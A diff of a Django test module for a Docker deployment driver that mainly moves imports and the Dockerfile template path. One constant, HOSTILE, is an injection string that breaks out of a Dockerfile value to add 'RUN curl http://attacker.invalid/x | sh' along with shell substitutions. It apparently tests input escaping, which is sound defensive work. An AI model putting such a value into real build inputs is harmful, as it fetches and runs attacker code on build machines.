@@ -20,14 +20,16 @@ from django.conf import settings as django_settings
 from django.utils import timezone
 
 from common.errors import ApplicationError
-from deployments import images
 from deployments.models import Build, BuildStatus, Endpoint, Target, TargetKind
 from deployments.targets.base import DriverError, ServerSpec, installation_id
-from deployments.targets.docker import DockerDriver, docker_settings
+from deployments.targets.docker import images
+from deployments.targets.docker.driver import DockerDriver, docker_settings
 from registry.models import RegisteredModel
 from tests.deployments.conftest import make_version
 
-TEMPLATE = Path(django_settings.BASE_DIR) / "deployments" / "docker" / "Dockerfile.serving"
+TEMPLATE = (
+    Path(django_settings.BASE_DIR) / "deployments" / "targets" / "docker" / "Dockerfile.serving"
+)
 HOSTILE = 'evil"\nRUN curl http://attacker.invalid/x | sh #$(id)`id`${PATH}'
 
 
